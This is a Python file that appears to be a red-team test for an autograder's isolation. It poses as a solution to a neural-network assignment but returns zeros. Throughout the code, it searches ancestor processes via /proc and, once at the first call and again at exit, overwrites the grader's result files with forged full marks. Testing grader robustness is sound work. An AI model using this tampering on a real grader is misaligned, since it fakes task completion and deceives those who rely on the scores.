"""Attack: overwrite the grader's result files (results.json, feedback.txt, result.json, the
CSV) with full marks, found through the command lines and working directories of its
ancestor processes (the grader's, unless a pid namespace hides it); at once in the first call
and again at interpreter exit (atexit).  Polite: only touches paths containing "redteam" (the
test's own directories), and only its own run's (ancestors, not every process).
Expected: nothing reachable; result files untouched; score <= zeros baseline."""
import atexit
import csv
import glob
import io
import json
import os

import numpy as np

TAG = "REDTEAM-TAMPERED by write_result_files"


def _ancestors():
    """This process and its ancestors up to pid 1: without a pid namespace, the grader is one."""
    chain, pid = [], os.getpid()
    while pid >= 1 and len(chain) < 40:
        chain.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def _places():
    places = {os.getcwd(), os.environ.get("PWD", "")}
    for proc in (f"/proc/{pid}" for pid in _ancestors()):
        try:
            args = open(proc + "/cmdline", "rb").read().split(b"\0")
            places.add(os.readlink(proc + "/cwd"))
        except OSError:
            continue
        places.update(os.path.join(proc + "/cwd", a.decode(errors="replace")) for a in args if a)
    return [p for p in places if "redteam" in p]


def _forged(path):
    if path.endswith(".json"):
        return json.dumps({"score": 29, "tests": [], "output": TAG, "extra_data": {"protection": TAG}})
    if path.endswith(".csv"):
        rows = list(csv.reader(open(path)))
        buf = io.StringIO()
        csv.writer(buf).writerows([rows[0]] + [[r[0], "29", "29", *r[3:-1], TAG] for r in rows[1:]])
        return buf.getvalue()
    return f"{TAG}: 29/29 points\n"


def _tamper():
    found = set()
    for place in _places():
        if os.path.isfile(place) and place.endswith((".csv", ".json", ".txt")):
            found.add(place)
        for pattern in ("*/results.json", "*/feedback.txt", "*/result.json", "*.csv"):
            found.update(glob.glob(os.path.join(place, pattern)))
    print(f"REDTEAM-INFO: {len(found)} result files found")
    for path in found:
        try:
            text = _forged(path)
            with open(path, "w") as f:
                f.write(text)
            print(f"REDTEAM-LEAK: overwrote {path}")
        except (OSError, IndexError, ValueError):
            pass


atexit.register(_tamper)


_DONE = []


def _forward(params, X, y):
    if not _DONE:  # once: scanning /proc in every call is slow
        _DONE.append(True)
        _tamper()
    return np.zeros((1, X.shape[1])), 0.0, dict(params)


def _backward(params, cache):
    return {k: np.zeros(np.shape(v)) for k, v in params.items()}


def sigmoid(z):
    return np.zeros(np.shape(z))


univariate_forward = multivariate_forward = two_layer_linear_forward = sigmoid_mlp_forward = _forward
univariate_backward = multivariate_backward = two_layer_linear_backward = sigmoid_mlp_backward = _backward
